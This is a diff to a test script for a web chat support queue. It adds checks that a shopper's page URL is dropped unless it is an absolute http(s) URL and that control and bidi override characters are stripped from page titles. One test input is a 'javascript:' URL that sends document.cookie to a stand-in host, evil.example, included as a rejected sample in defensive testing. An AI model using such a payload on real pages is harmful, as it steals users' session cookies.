@@ -8,7 +8,9 @@ with their options, totals, the payment link; never the page's token) and
 the bot's canned replies in the shopper's locale; bot.json's canned replies
 are checked at load with errors that name the place; the queue names a web
 chat shopper by a visitor number (kept across handoffs) and the page they
-are on (400 for a page that is not {url, title}); closed and handed-back
+are on (400 for a page that is not {url, title}; a url that is no absolute
+http(s) URL drops the page, and the title loses control and bidi override
+characters); closed and handed-back
 conversations leave the queue for GET /v1/agent/closed, newest first,
 paged, searched by shopper id, transcript text or order number, and
 scoped by a brand's token; bad parameters -> 400. A search of closed
@@ -176,6 +178,20 @@ def main(tap):
         check.assertEqual(a.post({"text": "I'm at the checkout", "page": newer}).status, 202)
         wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") == newer,
                    what="the queue showing the newer page")
+        # a page whose url is no http(s) URL is dropped; the message goes through
+        said = "still here %d" % run
+        r = a.post({"text": said, "page": {"url": "javascript:fetch('//evil.example/'+document.cookie)",
+                                           "title": "Checkout\u202e\n"}})
+        check.assertEqual(r.status, 202, r)
+        wait_until(lambda: said in json.dumps(detail("webchat", a.user)["transcript"]), what="the message recorded")
+        check.assertEqual(queue_row("webchat", a.user)["page"], newer, "the javascript: page was not kept")
+        for url in ("//shop.example/x", "https://", "https:///path", "data:text/html,hi", "https://shop.example/a b"):
+            check.assertEqual(a.post({"text": "hi", "page": {"url": url, "title": "t"}}).status, 202)
+        # the title loses control characters and bidi overrides
+        shown = {"url": "HTTPS://shop.example/pay", "title": "Pay\u202e\u2066 now\n\u0085"}
+        check.assertEqual(a.post({"text": "paying", "page": shown}).status, 202)
+        wait_until(lambda: (queue_row("webchat", a.user) or {}).get("page") ==
+                   {"url": "HTTPS://shop.example/pay", "title": "Pay now"}, what="the page with its title cleaned")
         for bad in ({"url": "x" * 3000}, {"title": "no url"}, "https://shop.example/", {"url": 7}):
             check_error(a.post({"text": "hi", "page": bad}), 400, r'"page"')
         check.assertEqual(act("webchat", a.user, "claim", {"agent": "Mia"}).status, 200)
